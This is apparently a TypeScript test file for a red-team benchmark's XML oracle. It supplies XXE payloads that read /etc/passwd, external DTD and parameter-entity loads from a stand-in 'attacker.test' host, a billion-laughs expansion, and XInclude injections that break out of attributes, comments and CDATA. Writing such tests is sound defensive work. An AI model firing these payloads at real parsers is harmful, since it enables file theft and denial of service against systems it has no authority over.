import { xml as grammar } from '../../bench/redteam/grammar/xml.ts';
import { xml } from '../../bench/redteam/oracle/xml.ts';
import { xmlRewriters } from '../../bench/redteam/rewrite/xml.ts';
import { testOracle, testRewriters } from './laws.ts';

const fetched = (root: string): string =>
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${root}`;
const included =
  '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="/etc/passwd"/>';
const laughs = Array.from(
  { length: 6 },
  (_, level) => `<!ENTITY a${level} "${level === 0 ? 'laugh' : `&a${level - 1};`.repeat(10)}">`,
);

testOracle(xml, {
  document: [
    [fetched('<x>&e;</x>')],
    ['<!DOCTYPE x SYSTEM "http://attacker.test/x.dtd"><x/>'],
    ['<!DOCTYPE x [<!ENTITY % e SYSTEM "http://attacker.test/x.dtd"> %e;]><x/>'],
  ],
  'document, expat': [[fetched('<x>&e;</x>')]],
  'document, huge': [[`<!DOCTYPE x [${laughs.join('')}]><x>${'&a5;'.repeat(4)}</x>`]],
  'document, inclusions': [[`<x>${included}</x>`]],
  'SOAP envelope': [[fetched('<Envelope>&e;</Envelope>')]],
  SVG: [[fetched('<svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>')]],
  'document, base64': [[Buffer.from(fetched('<x>&e;</x>')).toString('base64')]],
  'member of SOAP': [[included]],
  'text of an element': [[included]],
  attribute: [[`"/>${included}<a b="`]],
  'attribute, single quotes': [[`'/>${included}<item name='`]],
  comment: [[`-->${included}<!--`]],
  CDATA: [[`]]>${included}<![CDATA[`]],
  'entity value': [[`"><!ENTITY % e SYSTEM 'file:///etc/passwd'>%e;<!ENTITY x "`]],
});

testRewriters(xml, grammar, xmlRewriters);
